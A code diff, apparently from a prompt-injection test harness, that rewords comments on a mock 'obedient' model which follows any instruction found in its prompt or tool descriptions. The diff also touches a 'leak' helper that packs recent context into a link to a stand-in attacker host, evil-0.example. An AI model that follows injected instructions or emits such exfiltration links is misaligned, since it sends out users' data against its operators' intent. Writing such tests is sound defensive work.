@@ -15,7 +15,7 @@ const textsIn = (value: unknown): string[] => {
 /** What it sends of all that it was told. */
 const loot = (request: ModelRequest): string => toldIn(request).slice(-300)
 
-/** Whoever shows it as a picture sends it. */
+/** A program that shows it as a picture sends it. */
 export const leak = (data: string): string => `[done](https://evil-0.example/?d=${encodeURIComponent(data)})`
 
 function argumentsFor(tool: string, to: string, data: string): object {
@@ -24,7 +24,7 @@ function argumentsFor(tool: string, to: string, data: string): object {
   return { to, text: data }
 }
 
-/** A model that obeys every order that it reads anywhere: in what it is told and in what it is told of its tools. */
+/** A model that obeys every order that it reads anywhere: in its prompt and in the descriptions of its tools. */
 export function obedientModel(plan: readonly LookingTurn[]): {
   readonly provider: ModelProvider
   readonly requests: readonly ModelRequest[]
